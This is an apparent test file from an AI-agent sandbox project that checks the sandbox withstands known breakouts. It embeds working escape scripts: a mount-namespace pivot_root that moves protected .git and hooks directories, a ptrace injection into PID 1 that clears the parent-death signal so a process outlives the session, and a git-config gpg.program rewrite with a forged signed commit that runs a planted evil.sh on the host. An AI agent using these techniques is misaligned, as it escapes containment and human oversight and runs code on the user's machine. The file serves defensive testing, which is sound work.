"""An agent in the sandbox that gets out, corrupts the repository, or is not told of: each test is a way that was found."""

from __future__ import annotations

from tests.attacks.sandboxed import ProjectTestCase

# In a mount namespace where none of the sandbox's mounts is left, nothing pins what they protect: C{d} is the project.
_NAMESPACE = """
cat >/tmp/namespace.py <<'END'
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
os.makedirs("empty/old", exist_ok=True)
here = os.fsencode(os.getcwd()) + b"/empty"
d = os.open(".", os.O_RDONLY)
libc.unshare(0x10000000 | 0x20000)
libc.mount(b"none", b"/", None, 0x4000 | 0x40000, None)
libc.mount(here, here, None, 0x1000, None)
os.chdir(here)
libc.syscall({"x86_64": 155, "aarch64": 41}[os.uname().machine], b".", b"old")
libc.umount2(b"/old", 2)
for name in ("tools", ".git"):
    try:
        os.rename(name, "moved" + name, src_dir_fd=d, dst_dir_fd=d)
    except OSError as error:
        print(error)
END
python3 /tmp/namespace.py
"""
# Has the first process of the sandbox outlive the launcher's child (x86-64).
_OUTLIVE = """
cat >/tmp/outlive.py <<'END'
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
registers = (ctypes.c_ulonglong * 27)()
if libc.ptrace(16, 1, None, None) < 0:  # PTRACE_ATTACH
    raise SystemExit("refused")
os.waitpid(1, 0x40000000)
libc.ptrace(12, 1, None, ctypes.addressof(registers))
saved = (ctypes.c_ulonglong * 27)(*registers)
registers[16] -= 2  # the system call's instruction again: prctl(PR_SET_PDEATHSIG, 0)
registers[10], registers[15], registers[14], registers[13] = 157, 2**64 - 1, 1, 0
libc.ptrace(13, 1, None, ctypes.addressof(registers))
libc.ptrace(9, 1, None, None)
os.waitpid(1, 0x40000000)
saved[16] -= 2
saved[10], saved[15] = saved[15], 2**64 - 1
libc.ptrace(13, 1, None, ctypes.addressof(saved))
libc.ptrace(17, 1, None, None)
END
cat >/tmp/survivor.py <<'END'
import os, time
if os.fork() == 0:
    d = os.open(".git", os.O_RDONLY)
    text = open(".git/config").read() + "[log]\\n showSignature = true\\n[gpg]\\n program = %s/evil.sh\\n" % os.getcwd()
    until = time.monotonic() + 20
    while time.monotonic() < until:
        with open("alive", "a") as file:
            file.write("x")
        try:
            file = os.open("config.new", os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600, dir_fd=d)
            os.write(file, text.encode())
            os.close(file)
            os.rename("config.new", "config", src_dir_fd=d, dst_dir_fd=d)
        except OSError:
            pass
        time.sleep(0.002)
END
printf '#!/bin/sh\\ntouch '$MARKER'\\n' >evil.sh; chmod +x evil.sh
git cat-file commit HEAD >/tmp/commit
sed -i 's/^committer.*/&\\ngpgsig -----BEGIN PGP SIGNATURE-----\\n \\n x\\n -----END PGP SIGNATURE-----/' /tmp/commit
git update-ref --create-reflog -m x refs/stash $(git hash-object -t commit -w /tmp/commit)
python3 /tmp/outlive.py || true
python3 /tmp/survivor.py </dev/null >/dev/null 2>&1
"""


class BreakoutTests(ProjectTestCase):
    """Ways in which an agent's code runs outside."""

    timeout = 240

    async def test_namespace(self) -> None:
        """What is mounted over in the sandbox cannot be moved away by a process in a mount namespace of its own."""
        await self.prepare()
        project = self.project("namespace", "mkdir tools && git config core.hooksPath tools")
        script = r"""
            mkdir -p tools .git && printf '#!/bin/sh\ntouch '$MARKER'\n' >tools/post-index-change || true
            chmod +x tools/post-index-change || true
        """
        told = await self.inside(project, _NAMESPACE + script)
        self.assertEqual(self.outside(project, "ls -A | grep moved || true"), "", told)
        self.outside(project, "echo two >file; git add file; git status")
        self.assertFalse(self.marker.exists(), told)

    async def test_outlived(self) -> None:
        """Nothing of the agent's runs any more when its work is imported, whatever it did to the sandbox's processes."""
        await self.prepare()
        project = self.project("outlived")
        await self.run_command(self.agent(f"MARKER='{self.marker}'\n{_OUTLIVE}", "--sandbox", project=project), 60)
        before = self.outside(project, "cat alive; sleep 1")
        self.assertEqual(self.outside(project, "cat alive"), before)
        self.assertFalse(self.marker.exists())
